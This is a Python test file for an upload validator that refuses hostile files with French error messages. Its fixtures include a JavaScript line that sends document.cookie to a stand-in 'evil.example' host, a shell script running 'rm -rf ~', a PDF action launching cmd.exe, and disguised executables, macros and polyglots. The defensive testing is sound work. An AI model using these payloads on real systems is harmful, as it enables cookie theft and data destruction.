"""Upload checks: the accepted formats, and a corpus of hostile files refused with a French reason."""

import pytest

from documents import sniffing
from documents.sniffing import FichierRefuse, verifier

from .conftest import VALIDES, csv_bytes, docx, fichier, jpeg, ole2, pdf, png, zip_bytes


@pytest.mark.parametrize("nom", VALIDES)
def test_accepted_formats(nom):
    resultat = verifier(fichier(nom, VALIDES[nom]()))
    assert resultat.nom == nom
    assert resultat.taille > 0


def test_detected_content_type_is_the_sniffed_one_not_the_browser_s():
    resultat = verifier(fichier("programme.pdf", pdf(), content_type="text/html"))
    assert resultat.content_type == "application/pdf"


ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 100
MZ = b"MZ\x90\x00" + b"\x00" * 100 + b"This program cannot be run in DOS mode"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
JS = b"function f() { fetch('https://evil.example/' + document.cookie) }\nf();\n"

HOSTILES = {
    "vide": ("programme.pdf", b"", sniffing.MSG_VIDE),
    "blancs": ("programme.pdf", b"\x00\x00  \n", sniffing.MSG_VIDE),
    "exe renommé pdf": ("programme.pdf", MZ, sniffing.MSG_EXECUTABLE),
    "elf renommé docx": ("convention.docx", ELF, sniffing.MSG_EXECUTABLE),
    "mach-o renommé png": ("capture.png", b"\xcf\xfa\xed\xfe" + b"\x00" * 64, sniffing.MSG_EXECUTABLE),
    "script renommé csv": ("heures.csv", b"#!/bin/sh\nrm -rf ~;echo a,b\n", sniffing.MSG_EXECUTABLE),
    "html nommé pdf": ("programme.pdf", HTML, sniffing.MSG_CONTENU),
    "svg nommé pdf": ("programme.pdf", SVG, sniffing.MSG_CONTENU),
    "svg nommé png": ("capture.png", SVG, sniffing.MSG_CONTENU),
    "js nommé pdf": ("programme.pdf", JS, sniffing.MSG_CONTENU),
    "js nommé csv": ("heures.csv", JS, sniffing.MSG_CONTENU),
    "html nommé csv": ("heures.csv", b"a;b\n" + HTML, sniffing.MSG_CONTENU),
    "zip nommé docx": ("convention.docx", zip_bytes({"photo.jpg": jpeg(), "lisezmoi.txt": b"x"}), sniffing.MSG_CONTENU),
    "xlsx nommé docx": (
        "convention.docx",
        zip_bytes({"[Content_Types].xml": b"<T/>", "xl/w.xml": b"<w/>"}),
        sniffing.MSG_CONTENU,
    ),
    "docx nommé xls": ("budget.xls", docx(), sniffing.MSG_CONTENU),
    "docx à macros": (
        "convention.docx",
        zip_bytes({"[Content_Types].xml": b"<T/>", "word/document.xml": b"<d/>", "word/vbaProject.bin": b"\x00"}),
        sniffing.MSG_MACROS,
    ),
    "doc à macros": ("convention.doc", ole2("WordDocument") + "_VBA_PROJECT".encode("utf-16-le"), sniffing.MSG_MACROS),
    "zip tronqué nommé docx": ("convention.docx", docx()[:60], sniffing.MSG_ENDOMMAGE),
    "msi nommé doc": ("convention.doc", ole2("SummaryInformation"), sniffing.MSG_CONTENU),
    "pdf avec javascript": (
        "programme.pdf",
        pdf(b"1 0 obj<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n"),
        sniffing.MSG_PDF_ACTIF,
    ),
    "pdf avec launch": (
        "programme.pdf",
        pdf(b"1 0 obj<< /OpenAction << /S /Launch /F (cmd.exe) >> >>\n"),
        sniffing.MSG_PDF_ACTIF,
    ),
    "pdf tronqué": ("programme.pdf", pdf()[:-7], sniffing.MSG_ENDOMMAGE),
    "signature pdf seule": ("programme.pdf", b"%PDF-", sniffing.MSG_CONTENU),
    "jpeg tronqué": ("photo.jpg", jpeg()[:-2], sniffing.MSG_ENDOMMAGE),
    "png tronqué": ("capture.png", png()[:-12], sniffing.MSG_ENDOMMAGE),
    "polyglotte jpeg + zip": ("photo.jpg", jpeg() + zip_bytes({"a.exe": MZ}), sniffing.MSG_CACHE),
    "polyglotte pdf + zip": ("programme.pdf", pdf() + zip_bytes({"a.js": JS}), sniffing.MSG_CACHE),
    "csv binaire": ("heures.csv", b"a;b\n\x00\x01\x02\x03", sniffing.MSG_CONTENU),
    "csv sans séparateur": ("heures.csv", b"bonjour\nau revoir\n", sniffing.MSG_CONTENU),
    "extension inconnue": ("outil.exe", MZ, sniffing.MSG_EXTENSION),
    "extension txt": ("notes.txt", b"a;b\n1;2\n", sniffing.MSG_EXTENSION),
    "sans extension": ("programme", pdf(), sniffing.MSG_EXTENSION),
    "double extension pdf.exe": ("cv.pdf.exe", MZ, sniffing.MSG_DOUBLE_EXTENSION),
    "double extension exe.pdf": ("cv.exe.pdf", pdf(), sniffing.MSG_DOUBLE_EXTENSION),
    "double extension html.pdf": ("cv.html.pdf", pdf(), sniffing.MSG_DOUBLE_EXTENSION),
    "nom caché": (".pdf", pdf(), sniffing.MSG_NOM),
}


@pytest.mark.parametrize("cas", HOSTILES)
def test_hostile_files_refused_with_a_french_reason(cas):
    nom, contenu, message = HOSTILES[cas]
    with pytest.raises(FichierRefuse) as refus:
        verifier(fichier(nom, contenu))
    attendu = message.split("{nom}")[-1].split("{format}")[0].split("{")[0]
    assert attendu.strip(" .:") in refus.value.message
    assert (
        "refus" in refus.value.message
        or "n'est pas" in refus.value.message
        or "vide" in refus.value.message
        or "renommez" in refus.value.message
    )


def test_oversized_file_refused_without_writing_20_mb():
    gros = fichier("programme.pdf", pdf())
    gros.size = 20 * 1024 * 1024 + 1
    with pytest.raises(FichierRefuse) as refus:
        verifier(gros)
    assert refus.value.message == "Le fichier « programme.pdf » dépasse le poids maximum de 20Mo."


def test_exactly_20_mb_is_accepted_by_the_size_check():
    limite = fichier("programme.pdf", pdf())
    limite.size = 20 * 1024 * 1024
    assert verifier(limite).taille == 20 * 1024 * 1024


def test_path_and_control_characters_are_stripped_from_the_name():
    assert verifier(fichier("programme.pdf", pdf())).nom == "programme.pdf"
    assert sniffing.nom_propre("C:\\Users\\x\\programme\x07.pdf") == "programme.pdf"
    assert sniffing.nom_propre("../../etc/programme.pdf") == "programme.pdf"


def test_csv_in_windows_1252_is_accepted():
    assert verifier(fichier("heures.csv", "nom;prénom\nDupont;Hélène\n".encode("cp1252"))).kind == "csv"
    assert verifier(fichier("heures.csv", csv_bytes())).content_type == "text/csv"
